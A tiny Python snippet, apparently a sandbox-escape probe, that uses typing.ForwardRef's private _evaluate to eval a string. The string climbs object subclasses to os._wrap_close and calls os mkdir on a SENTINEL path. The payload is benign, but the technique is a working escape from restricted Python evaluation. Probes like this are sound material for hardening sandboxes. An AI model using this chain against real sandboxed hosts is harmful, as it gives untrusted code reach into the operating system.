# typing.ForwardRef's private _evaluate runs eval in host code.
import typing
ref = typing.ForwardRef('[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["mkdir"](SENTINEL)')
try:
    ref._evaluate(globals(), None, frozenset())
except TypeError:
    ref._evaluate(globals(), None, recursive_guard=frozenset())
